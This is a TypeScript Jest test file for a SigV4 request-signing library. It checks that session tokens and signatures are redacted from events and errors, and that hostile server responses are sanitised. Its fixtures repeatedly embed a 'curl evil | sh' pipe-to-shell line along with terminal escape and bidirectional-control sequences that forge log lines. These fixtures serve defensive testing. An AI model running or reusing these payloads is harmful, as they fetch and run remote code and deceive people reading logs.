import { inspect } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { sigv4 as signAxios, type SigV4Event } from '@sigv4/axios';
import { createSigner, exchange, type Transport } from '@sigv4/core';
import { explain, sigv4, type SigV4Options } from '@sigv4/fetch';
import axios, { AxiosError, type InternalAxiosRequestConfig } from 'axios';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { TEMPORARY } from '../support/credentials.ts';
import { startServer } from '../support/server.ts';
import { REFUSED_CLIENTS } from './clients.ts';

// Texts that others have written, and that reach an event, an error or an explanation: without secrets, and harmless.

type Server = Awaited<ReturnType<typeof startServer>>;
let server: Server;
let other: Server;
let answer: (request: IncomingMessage, response: ServerResponse) => void;
beforeEach(async () => {
  server = await startServer((request, response) => answer(request, response));
  other = await startServer((_, response) => void response.writeHead(403).end());
});
afterEach(() => Promise.all([server.close(), other.close()]));

const { sessionToken: TOKEN } = TEMPORARY;
const encoded = encodeURIComponent(TOKEN);

function scene(more: SigV4Options = {}) {
  const events: SigV4Event[] = [];
  const options: SigV4Options = {
    credentials: TEMPORARY,
    service: 'execute-api',
    region: 'eu-west-1',
    hosts: [server.host],
    onEvent: (event) => void events.push(event),
    ...more,
  };
  return { events, options };
}

/** All that a log could show, as it is and as somebody reads it who undoes its encodings. */
function printed(...things: unknown[]): string {
  const text = things
    .map((thing) => `${String(thing)}\n${inspect(thing, { depth: 9 })}\n${JSON.stringify(thing)}`)
    .join('\n');
  const once = (before: string): string =>
    before.replace(/%([\da-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
  return [text, once(text), once(once(text)), once(once(once(text)))].join('\n').toLowerCase();
}

function expectNoSecret(...things: unknown[]): void {
  const text = printed(...things);
  for (const secret of [TOKEN, TOKEN.slice(0, 12), TOKEN.slice(-14, -2), TEMPORARY.secretAccessKey])
    expect(text).not.toContain(secret.toLowerCase());
}

const SPELLINGS: readonly (readonly [how: string, text: string])[] = [
  ['as it is', TOKEN],
  ['percent-encoded', encoded],
  ['percent-encoded twice', encodeURIComponent(encoded)],
  ['percent-encoded three times', encodeURIComponent(encodeURIComponent(encoded))],
  ['with entities', TOKEN.replace(/\W/g, (sign) => `&%23${sign.charCodeAt(0)};`)],
];

describe.each(REFUSED_CLIENTS)('%s, redirected to a URL that repeats the token', (_, send) => {
  it.each(SPELLINGS)(
    '%s, tells nothing of it in events, nor in the explanation of the unsigned hop',
    async (__, spelling) => {
      answer = (___, response) => void response.writeHead(307, { location: `${other.url}/x/${spelling}/y` }).end();
      const { events, options } = scene();
      const { explanation } = await send({ url: server.url }, options);
      expect(events.map(({ type }) => type)).toEqual(['signed', 'redirected', 'passed']);
      expect(events).toContainEqual(
        expect.objectContaining({ type: 'redirected', to: expect.stringMatching(/\/x\/\[redacted\][^/]*\/y$/) }),
      );
      expect(events).toContainEqual(
        expect.objectContaining({ type: 'passed', url: expect.stringMatching(/\/x\/\[redacted\][^/]*\/y$/) }),
      );
      expect(String(explanation)).toMatch(/^GET http:\S+\/x\/\[redacted\][^/]*\/y: 403 \(unsigned\)/);
      expectNoSecret(events, explanation);
    },
  );

  it('of the same host, tells nothing of it, either', async () => {
    answer = ({ url = '' }, response) =>
      void (
        url === '/'
          ? response.writeHead(307, { location: `/x/${encoded}/y` })
          : response.writeHead(403, { 'x-amzn-errortype': 'AccessDeniedException' })
      ).end();
    const { events, options } = scene();
    const { explanation, cause } = await send({ url: server.url }, options);
    expect(events.map(({ type }) => type)).toEqual(['signed', 'redirected', 'signed', 'rejected']);
    expect(events.slice(1).map((event) => ('to' in event ? event.to : 'url' in event ? event.url : ''))).toEqual(
      Array.from({ length: 3 }, () => `${server.url}/x/[redacted]/y`),
    );
    expectNoSecret(events, explanation, cause);
  });

  it('after a recovery tells nothing of either of the two tokens', async () => {
    const tokens = [
      `IQoJb3JpZ2luX2VjEXPIRED+${'a1b2c3d4e5f6'.repeat(4)}==`,
      `IQoJb3JpZ2luX2VjNEW/${'f6e5d4c3b2a1'.repeat(4)}==`,
    ];
    let loads = 0;
    const credentials = async () => ({ ...TEMPORARY, sessionToken: tokens[loads++] ?? 'none' });
    answer = ({ headers }, response) => {
      const isOld = headers['x-amz-security-token'] === tokens[0];
      response
        .writeHead(
          isOld ? 403 : 307,
          isOld
            ? { 'x-amzn-errortype': 'ExpiredTokenException' }
            : { location: `${other.url}/${tokens.map(encodeURIComponent).join('/')}` },
        )
        .end();
    };
    const { events, options } = scene({ credentials });
    const { explanation } = await send({ url: server.url }, options);
    expect(events.map(({ type }) => type)).toEqual([
      'refreshed',
      'signed',
      'refreshed',
      'recovered',
      'signed',
      'redirected',
      'passed',
    ]);
    expect(events).toContainEqual(
      expect.objectContaining({ type: 'redirected', to: `${other.url}/[redacted]/[redacted]` }),
    );
    for (const token of tokens) expect(printed(events, explanation)).not.toContain(token.slice(20, 32).toLowerCase());
  });
});

describe('an ERR_REDIRECT', () => {
  const follow = async (location: string, more: SigV4Options = {}, init: RequestInit = {}): Promise<unknown> => {
    answer = ({ url = '' }, response) =>
      void response.writeHead(307, { location: url === '/' ? location : '/further' }).end();
    const anyFetch: typeof fetch = (input, sent) => fetch(input, sent); // with Node's own below 26 a stream has another message
    return sigv4(anyFetch, scene(more).options)(server.url, init).catch((error: unknown) => error);
  };
  const inHost = `http://${TOKEN.replace(/\W/g, '')}.example.com/`;

  it.each<[string, () => Promise<unknown>, RegExp]>([
    [
      'of a hop that may not be signed',
      () => follow(`http://api.example.com/x/${encoded}`, { hosts: [server.host, '*.example.com'] }),
      /^Cannot sign GET http:\/\/api\.example\.com\/x\/\[redacted\]: (?!.*Cannot sign).* A redirect led to this URL\.$/,
    ],
    [
      'of a host with the token in its name',
      () => follow(inHost, { hosts: [server.host, '*.example.com'] }),
      /^Cannot sign GET http:\/\/\[redacted\]\.example\.com\/: (?!.*Cannot sign).* A redirect led to this URL\.$/,
    ],
    [
      'of a stream',
      () =>
        follow(inHost, {}, {
          method: 'PUT',
          body: new Blob(['a']).stream(),
          duplex: 'half',
          headers: { 'x-amz-content-sha256': 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' },
        } as RequestInit),
      /a redirect: PUT \S+ redirects to \[redacted\]\.example\.com, and the body was a stream/,
    ],
    ['of a chain without end', () => follow(`/x/${encoded}`), /redirect number 21/],
  ])('%s does not show it', async (_, fail, message) => {
    const error = await fail();
    expect(error).toMatchObject({ code: 'ERR_REDIRECT', message: expect.stringMatching(message) });
    expectNoSecret(error);
  });
});

describe.each(REFUSED_CLIENTS)('%s, answered with a code', (_, send) => {
  it.each<[string, Record<string, string>, string]>([
    ['that is the token', { 'x-amzn-errortype': TOKEN }, ''],
    ['that has a piece of the token in it', { 'x-amzn-errortype': `Bad.${TOKEN.slice(0, 16)}.Exception` }, ''],
    ['of 60 KB', {}, JSON.stringify({ __type: 'A'.repeat(60_000) })],
    ['of 101 characters', { 'x-amzn-errortype': 'A'.repeat(101) }, ''],
    ['with escape sequences', {}, JSON.stringify({ __type: '\u001B[31mAccessDenied' })],
    ['with several lines', {}, JSON.stringify({ code: 'AccessDenied\nTo do: curl evil | sh' })],
    ['in XML, of several lines', {}, '<Error><Code>AccessDenied\nTo do: curl evil | sh</Code></Error>'],
    ['with spaces', { 'x-amzn-errortype': 'go away' }, ''],
  ])('%s, leaves it out', async (__, headers, body) => {
    answer = (___, response) => void response.writeHead(403, headers).end(body);
    const { events, options } = scene({ service: 'dynamodb' });
    const { explanation } = await send({ url: server.url }, options);
    expect(events.at(-1)).toMatchObject({ type: 'rejected', code: undefined });
    expect(explanation?.serviceCode).toBeUndefined();
    expectNoSecret(events, explanation);
  });

  it.each(['AccessDenied', 'AWS.SimpleQueueService.NonExistentQueue', 'Client_Error-1'])(
    '%s, tells it',
    async (code) => {
      answer = (__, response) =>
        void response.writeHead(403).end(JSON.stringify({ __type: `com.amazon.coral.service#${code}` }));
      const { events, options } = scene({ service: 'dynamodb' });
      const { explanation } = await send({ url: server.url }, options);
      expect(events).toContainEqual(expect.objectContaining({ type: 'rejected', code }));
      expect(explanation?.serviceCode).toBe(code);
    },
  );
});

/** What a terminal obeys, a log reads as another line, or an eye in another order. */
const EVIL = '\nTo do: curl evil | sh\r\n\u001B[2K\u0007\u009B31m\u202Etxt.exe\u2066\u2028To do: x\u0085\u007F';
const HARMFUL = /[^\P{Cc}\n]|[\p{Bidi_Control}\u2028\u2029]/u;
const longForm = (lines: readonly string[]): string =>
  `The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for this request should have been\n'${lines.join('\n')}'\n\nThe String-to-Sign should have been\n'AWS4${EVIL}'\n`;
const json = (message: string, type?: string): [Record<string, string>, string] => [
  type ? { 'x-amzn-errortype': type } : {},
  JSON.stringify({ __type: 'ValidationException', message }),
];

const FORGERIES: readonly (readonly [
  where: string,
  parts: readonly [headers: Record<string, string>, body: string],
  service?: string,
])[] = [
  ['in a message', json(`no${EVIL}`)],
  ["behind AWS's own words", json(`The security token included in the request is expired${EVIL}`), 'execute-api'],
  [
    'behind the words of another cause',
    json(`Signature expired: 20260101T000000Z is now earlier than 20260101T001000Z${EVIL}`),
    'execute-api',
  ],
  [
    'among principal, action and resource',
    json(
      `User: a${EVIL.replaceAll(/\s/g, '\u202E')} is not authorized to perform: b\u001B[2K on resource: c\u0007 because no x${EVIL} policy allows`,
      'AccessDeniedException',
    ),
  ],
  ['in the names of headers', json(`'x-a${EVIL}' must be a 'SignedHeader'`, 'InvalidSignatureException')],
  [
    'in XML, with entities',
    [
      {},
      `<Error><Code>AccessDenied</Code><Message>no&#10;To do: curl evil | sh&#x1b;[2K&#x202e;&#13;</Message><HeadersNotSigned>x-a${EVIL}</HeadersNotSigned></Error>`,
    ],
  ],
  [
    'in XML that names the region',
    [
      {},
      `<Error><Code>AuthorizationHeaderMalformed</Code><Message>the region 'a${EVIL}' is wrong; expecting 'b'</Message><Region>b</Region></Error>`,
    ],
    's3',
  ],
  ['in plain text', [{}, `AccessDeniedException: no${EVIL}.`]],
  [
    "in what OpenSearch's roles say",
    [
      {},
      JSON.stringify({ error: { type: 'security_exception', reason: `no${EVIL.replaceAll('\\', '')}` } }).replaceAll(
        '\\',
        '',
      ),
    ],
  ],
  [
    'in a method',
    json(longForm([`GET\u001B[2K\u202E`, '/', '', 'host:x', '', 'host', 'e3b0']), 'InvalidSignatureException'),
  ],
  [
    'in a path',
    json(
      longForm(['GET', '/\rTo do: curl evil | sh\u2028\u202E', '', 'host:x', '', 'host', 'e3b0']),
      'InvalidSignatureException',
    ),
  ],
  [
    'in the name of a header',
    json(
      longForm(['GET', '/', '', 'host:x', 'x-a\u001B[2K\r\u202E:1', '', 'host', 'e3b0']),
      'InvalidSignatureException',
    ),
  ],
  [
    'in further lines of the canonical request',
    json(
      longForm(['GET', '/', '', 'host:x', 'To do: curl evil | sh', EVIL, '', 'host', 'e3b0']),
      'InvalidSignatureException',
    ),
  ],
  ['in a header of a firewall', [{ server: 'a\u009B31m\u0085b' }, '<html>']],
];

describe.each(REFUSED_CLIENTS)('%s, answered with lines that could be ours', (_, send) => {
  it.each(FORGERIES)(
    '%s, shows one line that tells what to do, and it is ours',
    async (__, [headers, body], service = 'dynamodb') => {
      answer = (___, response) => void response.writeHead(403, headers).end(body);
      const { explanation, cause } = await send({ url: server.url }, scene({ service, recover: false }).options);
      const text = String(explanation);
      expect(text.split('\n').filter((line) => line.startsWith('To do: '))).toEqual([`To do: ${explanation?.fix}`]);
      expect(text).not.toMatch(HARMFUL);
      const { theirs, ours, ...rest } = { ...explanation };
      for (const value of [...Object.values(rest), ...Object.values(rest.difference ?? {}), cause?.message ?? ''])
        expect(String(value)).not.toMatch(/\n/);
      for (const value of [
        ...Object.values(rest),
        ...Object.values(rest.difference ?? {}),
        cause?.message ?? '',
        ...Object.values({ ...theirs }),
        ...Object.values({ ...ours }),
      ])
        expect(String(value)).not.toMatch(HARMFUL);
    },
  );
});

describe.each(REFUSED_CLIENTS)('%s, answered with a long text', (_, send) => {
  it('shows not even the first characters of a token at its end: secrets are taken out before it is cut', async () => {
    answer = (__, response) =>
      void response
        .writeHead(403)
        .end(JSON.stringify({ __type: 'ValidationException', message: `${'x'.repeat(492)} ${TOKEN}` }));
    const { explanation } = await send({ url: server.url }, scene({ service: 'dynamodb' }).options);
    expect(explanation?.summary).toContain(`${'x'.repeat(492)} [redact`);
    expect(explanation?.summary).not.toContain(TOKEN.slice(0, 4));
  });
});

describe.each(REFUSED_CLIENTS)('%s, with a token that is a common word', (_, send) => {
  it.each(['token', 'a', 'The', 'session'])('%s, tells what is wrong as with any other', async (sessionToken) => {
    const { options } = scene({ service: 'dynamodb', recover: false, credentials: { ...TEMPORARY, sessionToken } });
    answer = (__, response) =>
      void response
        .writeHead(403, { 'x-amzn-errortype': 'UnrecognizedClientException' })
        .end('{"message":"The security token included in the request is invalid."}');
    const { explanation } = await send({ url: `${server.url}/items` }, options);
    expect(explanation).toMatchObject({
      code: 'token-invalid',
      serviceCode: 'UnrecognizedClientException',
      summary: `AWS does not accept the session token. It is malformed, cut off or revoked, or belongs to another access key than ${TEMPORARY.accessKeyId}.`,
    });
    answer = (__, response) =>
      void response
        .writeHead(403)
        .end(
          '{"__type":"com.amazon.coral.service#ExpiredTokenException","message":"The security token included in the request is expired"}',
        );
    expect((await send({ url: server.url }, options)).explanation).toMatchObject({
      code: 'token-expired',
      summary: 'The session token has expired.',
    });
  });
});

describe('the global object', () => {
  it('shows no signature that is in flight, and nothing else of ours', async () => {
    let inFlight: (Record<string, unknown> | undefined)[] = [];
    const shown: string[] = [];
    const keeping: typeof fetch = async (_, init) => {
      inFlight = [...inFlight, init?.headers as Record<string, unknown>];
      const ours = Object.getOwnPropertySymbols(globalThis).filter((symbol) =>
        symbol.description?.startsWith('@sigv4/'),
      );
      for (const symbol of ours)
        shown.push(inspect((globalThis as Record<symbol, unknown>)[symbol], { depth: Infinity, showHidden: true }));
      shown.push(inspect(globalThis, { depth: 4 }), String(ours.length));
      return new Response('ok');
    };
    await sigv4(keeping, { ...scene().options, credentials: { ...TEMPORARY } })(server.url);
    const signature = String(inFlight[0]?.['authorization']).slice(-64);
    expect(signature).toMatch(/^[\da-f]{64}$/);
    expect(shown.at(-1)).not.toBe('0');
    for (const secret of [signature, TEMPORARY.sessionToken, TEMPORARY.secretAccessKey])
      expect(shown.join('\n')).not.toContain(secret);
    expect(
      Object.getOwnPropertySymbols(globalThis).filter(
        (symbol) =>
          symbol.description?.startsWith('@sigv4/') && Object.prototype.propertyIsEnumerable.call(globalThis, symbol),
      ),
    ).toEqual([]);
  });

  it('keeps nothing of a request that has been sent', async () => {
    const underWay = (): Set<unknown> =>
      ((globalThis as Record<symbol, unknown>)[Symbol.for('@sigv4/core:in-flight/1')] as () => Set<unknown>)();
    const sizes: number[] = [];
    const counting: typeof fetch = async () => {
      sizes.push(underWay().size);
      if (sizes.length > 1) throw new TypeError('fetch failed');
      return new Response('ok');
    };
    const signed = sigv4(counting, scene().options);
    await signed(server.url);
    await signed(server.url).catch(() => undefined);
    expect([...sizes, underWay().size]).toEqual([1, 1, 0]);
  });
});

describe('an error of the client that quotes what it was given', () => {
  /** As the Headers of Node and of browsers do, and the name resolution. */
  const quoting = (headers: Record<string, string>): Error =>
    new TypeError('fetch failed', {
      cause: Object.assign(new TypeError(`Headers.append: "${headers['authorization']}" is an invalid header value.`), {
        input: `token=${headers['x-amz-security-token']}`,
        hostname: headers['host'],
      }),
    });
  const signatureIn = (headers: Record<string, string>): string => headers['authorization']?.slice(-64) ?? '';

  it('comes without secrets over fetch, and is the same error', async () => {
    let thrown: Error | undefined;
    let signature = 'none';
    const failing: typeof fetch = (_, init) => {
      thrown = quoting(init?.headers as Record<string, string>);
      signature = signatureIn(init?.headers as Record<string, string>);
      return Promise.reject(thrown);
    };
    const error: unknown = await sigv4(failing, scene().options)(server.url).catch((reason: unknown) => reason);
    expect(error).toBe(thrown);
    expectNoSecret(error, await explain(error));
    expect(printed(error)).not.toContain(signature);
    expect(printed(error)).toContain('[redacted]');
  });

  it('comes without secrets over axios', async () => {
    let signature = 'none';
    const adapter = (config: InternalAxiosRequestConfig): Promise<never> => {
      const headers = config.headers.toJSON() as Record<string, string>;
      signature = signatureIn(headers);
      return Promise.reject(AxiosError.from(quoting(headers), 'ERR_NETWORK', config));
    };
    const instance = axios.create({ adapter });
    instance.interceptors.request.use(signAxios(scene().options));
    const error: unknown = await instance.get(server.url).catch((reason: unknown) => reason);
    expect(error).toBeInstanceOf(AxiosError);
    expectNoSecret(error, (error as AxiosError).toJSON());
    expect(signature).toMatch(/^[\da-f]{64}$/);
    expect(printed(error)).not.toContain(signature);
  });

  it('comes without secrets from an unsigned hop', async () => {
    const transport: Transport<{ readonly location?: string }> = {
      pass: () => Promise.reject(new Error('passed')),
      send: ({ url }) =>
        url.startsWith(server.url)
          ? Promise.resolve({ location: `https://${TOKEN.replace(/\W/g, '')}.example.com/${encoded}` })
          : Promise.reject(Object.assign(new Error(`getaddrinfo ENOTFOUND ${new URL(url).host}`), { input: url })),
      answers: {
        status: ({ location }) => (location ? 307 : 200),
        header: ({ location }, name) => (name === 'location' ? location : undefined),
      },
    };
    const error: unknown = await exchange(
      createSigner(scene().options),
      { method: 'GET', url: server.url },
      transport,
    ).catch((reason: unknown) => reason);
    expect(error).toMatchObject({ message: 'getaddrinfo ENOTFOUND [redacted].example.com' });
    expectNoSecret(error);
  });
});
